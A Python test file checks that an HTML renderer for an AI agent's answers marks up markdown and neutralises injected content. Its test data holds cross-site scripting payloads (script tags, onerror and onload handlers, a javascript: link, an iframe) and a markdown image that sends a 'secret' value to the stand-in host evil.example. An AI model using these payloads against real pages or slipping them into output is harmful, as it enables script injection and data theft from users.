"""An agent's answer as HTML: what is marked, and that nothing else is."""

import pytest

from agents.chat import texts
from agents.web.marking import as_html


def test_paragraphs_lists_headings_and_code_are_marked():
    html = as_html(
        "# Plan\nTwo things:\n\n- **first** `x < 1`\n- second\n\n1. one\n2) two\n\n```py\nif a < b:\n  **no**\n```\nend"
    )
    assert '<p class="strong">Plan</p><p>Two things:</p>' in html
    assert "<ul><li><strong>first</strong> <code>x &lt; 1</code></li><li>second</li></ul>" in html
    assert "<ol><li>one</li><li>two</li></ol>" in html
    assert '<pre class="code tall">if a &lt; b:\n  **no**</pre><p>end</p>' in html


def test_a_fence_that_is_never_closed_is_code_to_the_end():
    assert as_html("see\n```\na\n\nb") == '<p>see</p><pre class="code tall">a\n\nb</pre>'


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "`<img src=x onerror=alert(1)>`",
        "**<b onmouseover=alert(1)>**",
        '```"><script>alert(1)</script>\n</pre><script>alert(1)</script>\n```',
        "[press](javascript:alert(1)) ![x](http://evil.example/?q=secret)",
        "- <iframe src=//evil.example>\n# <svg/onload=alert(1)>",
        "`a`<i>`b`</i>",
    ],
)
def test_nothing_that_is_said_becomes_a_tag_a_link_or_a_picture(text):
    html = as_html(text)
    for tag in ("<script", "<img", "<b ", "<i>", "<iframe", "<svg", "<a ", "href=", "</pre><"):
        assert tag not in html


def test_hidden_characters_are_shown():
    assert "⟦U+202E⟧" in as_html("safe\u202eevil")


def test_a_title_is_one_line_without_what_hides_cut_at_a_word():
    assert texts.one_line("  fix\n the\u202e \x00tests ", 60) == "fix the tests"
    assert texts.one_line("one two three four", 12) == "one two…"
    assert texts.one_line("x" * 30, 10) == "x" * 9 + "…"
